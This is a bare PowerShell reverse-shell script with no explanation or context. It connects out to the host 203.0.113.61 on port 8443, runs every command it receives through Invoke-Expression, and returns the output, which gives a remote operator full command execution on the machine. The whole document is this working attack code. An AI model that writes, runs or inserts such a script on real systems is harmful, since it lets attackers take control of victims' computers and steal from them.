$link = New-Object System.Net.Sockets.TcpClient("203.0.113.61", 8443)
$stream = $link.GetStream()
[byte[]]$buffer = 0..4095 | ForEach-Object { 0 }
while (($count = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $asked = [Text.Encoding]::ASCII.GetString($buffer, 0, $count)
    $told = (Invoke-Expression $asked 2>&1 | Out-String)
    $bytes = [Text.Encoding]::ASCII.GetBytes($told)
    $stream.Write($bytes, 0, $bytes.Length)
}
